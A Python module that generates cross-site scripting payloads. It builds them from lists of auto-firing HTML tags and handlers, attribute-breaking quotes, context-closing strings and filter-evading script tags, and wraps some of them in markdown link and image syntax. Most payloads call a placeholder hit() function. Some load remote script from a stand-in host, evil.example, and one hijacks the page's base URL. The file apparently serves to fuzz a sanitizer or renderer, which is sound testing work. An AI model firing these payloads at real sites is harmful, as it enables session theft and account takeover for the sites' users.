"""Tags that run something by themselves, and quotes that end an attribute."""

from collections.abc import Iterator
from itertools import product

CARRIERS = (
    """
img src=x onerror|svg onload|body onload|iframe onload|input autofocus onfocus
details open ontoggle|video src=x onerror|audio src=x onerror|video><source onerror
object data=x onerror|embed src=x onerror|select autofocus onfocus|textarea autofocus onfocus
button autofocus onfocus|a href=# autofocus onfocus|style onload|link rel=stylesheet href=x onerror
marquee onstart|p tabindex=0 autofocus onfocus|x contenteditable autofocus onfocus
svg><animate attributeName=x dur=1s onbegin|image src=x onerror|frameset onload|script src=x onerror
x style=animation-name:a onanimationstart|img srcset=x onerror|body onpageshow
""".replace("\n", "|")
    .strip("|")
    .split("|")
)
SHAPES = (
    "<{0}={1}>",
    '<{0}="{1}">',
    "<{0}='{1}'/>",
    "<{0}\t=\n{1} //",
    "<{0}=`{1}`><!--",
)
CLOSERS = (
    "",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</noscript>",
    "-->",
    "]]>",
    "*/",
    '">',
    "'>",
)
SCRIPTS = (
    "<script>hit()</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT/x>hit()</SCRIPT\t>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script type=module>hit()</script>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<base href=//evil.example/><script src=a.js></script>",
)
QUOTES = ('"', "'", "`", '\\"', "&quot;", "&#39;", '"/', '">')
HANDLERS = (
    " onmouseover=hit() onfocus=hit() autofocus tabindex=0 x=",
    "/onerror=hit()/src=x/x=",
    " style=animation-name:a onanimationstart=hit() x=",
)
PLACES = (
    "{}",
    "![{}](https://i.imgur.com/a.png)",
    '[a](/x "{}")',
    "[a](/x{})",
    "<a title='{}'>b</a>",
)


def payloads() -> Iterator[str]:
    for carrier, shape in product(CARRIERS, SHAPES):
        yield shape.format(carrier, "hit()")
    for carrier in CARRIERS:
        yield (
            "<"
            + "".join(sign.upper() if place % 2 else sign for place, sign in enumerate(carrier))
            + "=hit()>"
        )
    for closer, script in product(CLOSERS, SCRIPTS):
        yield closer + script


def breakouts() -> Iterator[str]:
    for quote, handler, place in product(QUOTES, HANDLERS, PLACES):
        yield place.format(quote + handler + quote)
